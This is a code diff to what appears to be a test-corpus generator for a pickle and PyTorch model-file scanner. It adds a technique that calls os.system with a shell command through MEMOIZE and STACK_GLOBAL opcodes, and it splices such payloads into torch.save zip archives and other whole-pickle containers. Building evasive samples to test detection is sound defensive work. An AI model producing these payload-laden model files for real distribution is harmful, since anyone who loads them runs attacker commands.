@@ -14,6 +14,7 @@ import io
 import marshal
 import pickle
 import shlex
+import tempfile
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -80,6 +81,7 @@ class Technique:
     reason: str = ""  # why it does not fire, when it does not
     dotted: bool = False  # STACK_GLOBAL of "A.b": resolves only in a stream whose PROTO >= 4
     slow: bool = False  # starts a process it does not wait for: marker may come late
+    standalone: bool = False  # relies on implicit memo slots: only in whole-pickle containers
 
 
 TECHNIQUES: dict[str, Technique] = {}
@@ -528,6 +530,18 @@ def t_split_memo(a: Asm, c: Ctx) -> None:
     a.setitems()
 
 
+@technique(
+    "stack-global-memoize",
+    "module and name stored by MEMOIZE (implicit slots 0, 1), joined by STACK_GLOBAL",
+    protocol=4,
+    standalone=True,
+)
+def t_memoize(a: Asm, c: Ctx) -> None:
+    # MEMOIZE slots are implicit (the memo's size), so this body must start the pickle.
+    a.string("os").memoize().pop().string("system").memoize().pop()
+    a.get(0).get(1).stack_global().string(c.sh).tuple1().reduce()
+
+
 @technique("inst-opcode", "protocol-0 INST calls os.system with MARKed args", protocol=0)
 def t_inst(a: Asm, c: Ctx) -> None:
     a.mark().string(c.sh).inst("os", "system")
@@ -622,11 +636,11 @@ def _state(tensors: bool = True) -> dict[str, Any]:
 
 
 def _torch_zip_bytes(tech: Technique, ctx: Ctx, out: Path, id: str) -> bytes:
-    path = out / f".{id}.tmp.pt"
-    C.torch_save({**_state(), "_extra": C.Raw(body(tech, ctx))}, path, splice=True)
-    data = path.read_bytes()
-    path.unlink()
-    return data
+    """A torch.save zip (archive folder named after `id`) with the payload spliced in."""
+    with tempfile.TemporaryDirectory(dir=out) as tmp:
+        path = Path(tmp) / f"{id}.pt"
+        C.torch_save({**_state(), "_extra": C.Raw(body(tech, ctx))}, path, splice=True)
+        return path.read_bytes()
 
 
 @container("pickle")
@@ -889,6 +903,8 @@ def c_zip_json(tech: Technique, ctx: Ctx, out: Path, id: str) -> Placed:
 # more container in rotation, so every container sees several techniques.
 CORE = ("builtins-exec", "os-system", "getattr-import-os", "functools-partial", "stack-global-memo")
 ROTATION = [name for name in CONTAINERS if name not in ("pickle", "torch-zip", "torch-zip-reduce")]
+# Containers holding the technique's pickle whole, from its first byte.
+WHOLE_PICKLE = ("pickle", "pickle-concat", "pickle-as-pt", "torch-legacy-magic")
 
 
 def plan() -> list[tuple[str, str]]:
@@ -896,7 +912,9 @@ def plan() -> list[tuple[str, str]]:
     pairs: list[tuple[str, str]] = []
     for i, name in enumerate(TECHNIQUES):
         chosen = ["pickle", "torch-zip"]
-        if name in CORE:
+        if TECHNIQUES[name].standalone:
+            chosen = list(WHOLE_PICKLE)
+        elif name in CORE:
             chosen += ROTATION
         else:
             chosen.append(ROTATION[i % len(ROTATION)])
